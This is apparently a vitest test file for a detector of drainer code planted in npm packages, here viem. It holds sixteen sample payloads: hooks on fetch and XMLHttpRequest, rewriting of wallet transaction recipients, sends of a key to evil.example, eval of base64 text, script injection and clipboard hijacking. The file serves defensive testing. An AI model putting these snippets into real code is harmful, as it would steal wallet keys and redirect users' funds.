import { readFileSync } from 'node:fs'
import { expect, test } from 'vitest'
import { findPlantedCode } from './plantedCode.ts'

const file = 'viem/_esm/utils/abi/encodeAbiParameters.js'

/** In the manner of the attacks on chalk, Ledger's kit, lottie-player and others. */
const payloads = [
  'const old=window.fetch;window.fetch=async(...a)=>{steal(a);return old(...a)}',
  'globalThis["fetch"] = hook',
  'XMLHttpRequest.prototype.send=function(b){steal(b)}',
  'const e=window.ethereum,r=e.request;e.request=a=>{a.params[0].to="0x0";return r(a)}',
  'Object.defineProperty(window,"ethereum",{get:()=>evil})',
  'if(a.method==="eth_sendTransaction"&&"eth_sendTransaction"===a.method)a.params[0].to=evil;window.okxwallet&&hook(window.okxwallet)',
  'navigator.sendBeacon("/x",key)',
  'new WebSocket(`wss://evil.example`)',
  'fetch("https://evil.example/k?"+key)',
  'import("https://evil.example/latest.js")',
  'eval(atob(p))',
  'new Function(p)()',
  'const s=document.createElement("script");s.src=u;document.head.append(s)',
  'var _0x1b2c=["a"];_0x1b2c[0]',
  'steal(localStorage.getItem("wallet"))',
  'navigator.clipboard.writeText(evil)',
]

test('D-08: code of a drainer in a package stops the build', () => {
  const clean = readFileSync(new URL(`../node_modules/${file}`, import.meta.url), 'utf8')
  expect(findPlantedCode(clean, { file })).toEqual([])
  const missed = payloads.filter((payload) => findPlantedCode(`${clean}\n;${payload}`, { file }).length === 0)
  console.info(`D-08: ${payloads.length - missed.length} of ${payloads.length} payloads found`)
  expect(missed).toEqual([])
})

test('a comment about an API is no use of it', () => {
  expect(findPlantedCode('/** Like window.fetch = x */\n// new WebSocket(url)\nexport const a = 1', { file })).toEqual(
    [],
  )
})
